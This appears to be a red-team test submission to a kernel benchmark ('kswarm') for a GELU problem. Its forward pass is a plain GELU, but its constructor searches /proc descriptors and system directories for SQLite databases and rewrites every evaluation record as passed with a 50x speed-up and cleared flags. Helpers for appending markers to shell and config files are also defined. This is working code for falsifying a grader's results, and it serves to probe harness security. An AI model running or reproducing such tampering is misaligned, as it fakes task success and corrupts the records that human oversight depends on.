# target: problems/level1/07_gelu.py | device: any
# Finds kswarm's results database (cwd, open descriptors, a walk) and rewrites its verdicts as passed with a huge speed-up.
import os
import sqlite3

import torch.nn as nn
import torch.nn.functional as F

MARK = "KSWARM-REDTEAM-PWN"
_wrote, _refused = [], []


def _append(path, text=None):
    """Appends a marker (a comment in the file's own language) to an existing file."""
    if text is None:
        text = f"\n# {MARK}\n" if path.endswith((".py", ".sh", ".toml", "rc", ".profile", ".cfg",
                                                   ".txt", "environment", ".ninja", ".pth")) \
            else f"\n/* {MARK} */\n" if path.endswith((".cpp", ".h", ".c")) else MARK
    try:
        with open(path, "a") as f:
            f.write(text)
        _wrote.append(path)
    except OSError as e:
        _refused.append(f"{path} ({e.strerror})")


def _create(path, text=""):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text or f"# {MARK}\n")
        _wrote.append(path)
    except OSError as e:
        _refused.append(f"{path} ({e.strerror})")


def _report(tag):
    raise RuntimeError(f"REDTEAM {tag} wrote=[{'; '.join(_wrote)}] refused=[{'; '.join(_refused)}]")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        candidates = {"kswarm.db", os.path.expanduser("~/kswarm.db")}
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                for n in os.listdir(f"/proc/{pid}/fd"):
                    target = os.readlink(f"/proc/{pid}/fd/{n}")
                    if target.endswith((".db", ".db-wal", ".sqlite")):
                        candidates.add(target.removesuffix("-wal"))
                        candidates.add(f"/proc/{pid}/fd/{n}")
            except OSError:
                pass
        for top in ("/work", "/home", "/root", "/tmp", "/srv", "/opt", "/var"):
            for root, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if d not in (".git", ".venv", "site-packages", "__pycache__")]
                candidates.update(os.path.join(root, f) for f in files if f.endswith(".db"))
        for path in sorted(candidates):
            if not os.path.exists(path):
                continue
            try:
                db = sqlite3.connect(path, timeout=1)
                db.execute(f"UPDATE evaluations SET outcome = 'passed', message = '{MARK}', "
                           "speedup = 50.0")
                try:
                    db.execute("UPDATE evaluations SET flags_json = '[]'")
                except sqlite3.Error:
                    pass
                db.commit()
                db.close()
                _wrote.append(path)
            except sqlite3.Error as e:
                _refused.append(f"{path} ({e})")
        _report("persist_database")

    def forward(self, x):
        return F.gelu(x)
